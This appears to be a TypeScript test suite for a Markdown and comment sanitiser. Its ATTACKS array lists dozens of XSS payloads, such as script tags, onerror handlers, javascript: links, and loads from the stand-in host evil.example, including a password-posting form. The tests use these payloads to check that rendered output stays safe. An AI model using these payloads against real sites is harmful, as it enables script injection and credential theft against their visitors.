import { describe, expect, test } from "vitest";
import { firstParagraph, renderComment, renderMarkdown } from "../../src/content/markdown.ts";
import { elementsOf } from "../support/html-tree.ts";

/** What people try on a page that shows their text. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='javascript:alert(1)'>",
  "<img src=http://evil.example/pixel.png>",
  "<img src=//evil.example/pixel.png>",
  "<img src='/\\evil.example/pixel.png'>",
  "<img src='\\\\evil.example\\pixel.png'>",
  "<img src='/\t/evil.example/pixel.png'>",
  "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<img srcset='http://evil.example/a.png 2x'>",
  "<picture><source srcset=//evil.example/a.png><img src=a.png></picture>",
  "![x](http://evil.example/pixel.png)",
  "![x](//evil.example/pixel.png)",
  "![x](/\\evil.example/pixel.png)",
  '![x](x.png" onerror="alert(1))',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href=' java\tscript:alert(1)'>x</a>",
  "<a href=x onclick=alert(1) style='position:fixed;inset:0'>x</a>",
  "<a href=x target=_blank rel=opener id=columns name=findings>x</a>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
  "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
  "<style>@import '//evil.example/x.css'; body{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<div style='background:url(//evil.example/x)'>x</div>",
  "<video autoplay><source src=//evil.example/x onerror=alert(1)></video><audio src=//evil.example/x></audio>",
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><script>alert(1)</script>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onclick='alert(1)'>x</x>",
  "```html\n</code></pre><script>alert(1)</script>\n```",
  "```sql\n</code></pre><script>alert(1)</script> '<img src=x onerror=alert(1)>'\n```",
  "```mermaid\n</code></pre><script>alert(1)</script>\n```",
  '```" onmouseover="alert(1)\nx\n```',
  "`</code><script>alert(1)</script>`",
  "# <script>alert(1)</script>",
  "| a |\n|---|\n| <script>alert(1)</script> |",
  "<pre class='mermaid-source k' style=color:red><code class='k language-sql evil'>x</code></pre>",
  "<span class='k'>forged</span><span style='color:red'>x</span>",
  "<p id=findings class=top>x</p>",
];

const TAGS = new Set(
  (
    "a abbr b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s " +
    "samp small span strong sub summary sup table tbody td tfoot th thead tr ul var"
  ).split(" "),
);
const ATTRIBUTES = new Set(["href", "title", "rel", "class", "src", "alt", "start", "align"]);
const CLASSES = /^(?:language-[\w+-]+|mermaid-source|k|s)$/;
const HREF = /^(?:https?:|mailto:|(?![a-z][\w+.-]*:)(?![\\/]{2}))/i;

/** Everything in an output that should not be there, as a browser would see it. */
function dangersOf(html: string): string[] {
  return elementsOf(html).flatMap(({ name, attributes }) => [
    ...(TAGS.has(name) ? [] : [`<${name}>`]),
    ...Object.keys(attributes)
      .filter((key) => !ATTRIBUTES.has(key))
      .map((key) => `${name}[${key}]`),
    ...(attributes.class ?? "")
      .split(" ")
      .filter((word) => word !== "" && !CLASSES.test(word))
      .map((word) => `${name}.${word}`),
    ...("href" in attributes && !HREF.test((attributes.href as string).replace(/[\t\n\r]/g, "").trim())
      ? [`href ${attributes.href}`]
      : []),
    ...("src" in attributes && new URL(attributes.src as string, "https://site.example/a/b").host !== "site.example"
      ? [`src ${attributes.src}`]
      : []),
  ]);
}

describe("rendered text", () => {
  test("the check sees what it looks for", () => {
    expect(
      dangersOf("<script>x</script><a href=javascript:x onclick=x class=top>x</a><img src='/\\evil.example/x'>"),
    ).toEqual(["<script>", "a[onclick]", "a.top", "href javascript:x", "src /\\evil.example/x"]);
  });

  test.each(ATTACKS)("holds nothing that runs, loads or styles: %j", (attack) => {
    const link = (name: string) => `${name}"><script>alert(1)</script>`;
    expect(dangersOf(renderMarkdown(attack))).toEqual([]);
    expect(dangersOf(renderMarkdown(`Text ${attack} text`, { link }))).toEqual([]);
    expect(dangersOf(renderComment(attack))).toEqual([]);
    expect(dangersOf(renderComment(`Text ${attack}\ntext`, { link }))).toEqual([]);
  });

  test("gives no span a class of ours but where SQL is coloured", () => {
    expect(renderMarkdown("<span class='k'>forged</span> <code class='language-sql k'>x</code>")).toBe(
      '<p>forged <code class="language-sql">x</code></p>\n',
    );
  });

  test("marks links that leave the site", () => {
    expect(renderMarkdown("[a](https://x.example) [b](../y.html#z) <b@x.example>")).toBe(
      '<p><a href="https://x.example" rel="noopener">a</a> <a href="../y.html#z">b</a> ' +
        '<a href="mailto:b@x.example" rel="noopener">b@x.example</a></p>\n',
    );
  });
});

describe("Markdown", () => {
  test("has its headings demoted", () => {
    expect(renderMarkdown("# One\n\n## Two\n\n###### Six")).toBe("<h2>One</h2>\n<h3>Two</h3>\n<h6>Six</h6>\n");
    expect(renderMarkdown("# One", { headingLevel: 4 })).toBe("<h4>One</h4>\n");
  });

  test("leaves a Mermaid block for the page's script", () => {
    expect(renderMarkdown("```mermaid\na --> b\n```")).toBe(
      '<pre class="mermaid-source"><code>a --&gt; b</code></pre>\n',
    );
  });

  test("colours keywords and strings of SQL, not columns that are named like keywords", () => {
    expect(renderMarkdown("```sql\nSELECT status FROM t -- it's\n WHERE a = 'b<c';\n```")).toBe(
      '<pre><code class="language-sql"><span class="k">SELECT</span> status <span class="k">FROM</span> t -- it&#39;s\n' +
        ' <span class="k">WHERE</span> a = <span class="s">&#39;b&#60;c&#39;</span>;</code></pre>\n',
    );
  });

  test("links code and bracketed names that are relations, and nothing else", () => {
    const link = (name: string) =>
      /^(orders|auth\.sessions(\.id)?|public\."Order Line")$/.test(name) ? `r/${name}` : null;
    const html = renderMarkdown(
      'In `orders`, `nothing`, [auth.sessions], [auth.sessions.id], [public."Order Line"], [auth.gone], ' +
        "[a [auth.sessions] b](x), [**`orders`**](y), [auth.sessions](z) and [x].",
      { link },
    );
    expect(
      elementsOf(html).flatMap(({ name, attributes, text }) => (name === "a" ? [[attributes.href, text]] : [])),
    ).toEqual([
      ["r/orders", "orders"],
      ["r/auth.sessions", "auth.sessions"],
      ["r/auth.sessions.id", "auth.sessions.id"],
      ['r/public."Order Line"', 'public."Order Line"'],
      ["x", "a [auth.sessions] b"],
      ["y", "orders"],
      ["z", "auth.sessions"],
    ]);
  });

  test("keeps tables, lists, quotes and relative images", () => {
    expect(renderMarkdown("| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. x\n\n> q\n\n![p](img/p.png)")).toBe(
      '<table>\n<thead>\n<tr>\n<th>a</th>\n<th align="right">b</th>\n</tr>\n</thead>\n<tbody><tr>\n<td>1</td>\n' +
        '<td align="right">2</td>\n</tr>\n</tbody></table>\n<ol start="3">\n<li>x</li>\n</ol>\n<blockquote>\n<p>q</p>\n' +
        '</blockquote>\n<p><img src="img/p.png" alt="p" /></p>\n',
    );
  });

  test("gives its first paragraph as it is written", () => {
    expect(firstParagraph("## Heading\n\n- list\n\nThe *first*\nparagraph.\n\nThe second.")).toBe(
      "The *first*\nparagraph.",
    );
    expect(firstParagraph("# Only a heading")).toBe("");
  });
});

describe("a comment", () => {
  test("that is one plain sentence is a paragraph", () => {
    expect(renderComment("When the instruction was received.")).toBe("<p>When the instruction was received.</p>");
  });

  test("keeps its line breaks, and shows marks that mean headings, HTML and images elsewhere as text", () => {
    expect(renderComment("# of <id>\nsecond line\n===\n    indented\n![p](x.png)")).toBe(
      "<p># of &lt;id&gt;<br />second line<br />===<br />indented<br />p</p>\n",
    );
  });

  test("shows a line of dashes or stars as they are, not as a rule", () => {
    expect(["---", "a\n\n* * *\n\nb"].map((text) => renderComment(text))).toEqual([
      "<p>---</p>\n",
      "<p>a</p>\n<p>* * *</p>\n<p>b</p>\n",
    ]);
  });

  test("has lists, code, emphasis and links", () => {
    expect(renderComment("One of:\n- `open`\n- **filled**, see https://x.example/a?b=1&c=2")).toBe(
      "<p>One of:</p>\n<ul>\n<li><code>open</code></li>\n<li><strong>filled</strong>, see " +
        '<a href="https://x.example/a?b=1&amp;c=2" rel="noopener">https://x.example/a?b=1&amp;c=2</a></li>\n</ul>\n',
    );
  });

  test("of underscores keeps them", () => {
    expect(renderComment("See order_fills and user_id")).toBe("<p>See order_fills and user_id</p>\n");
  });
});
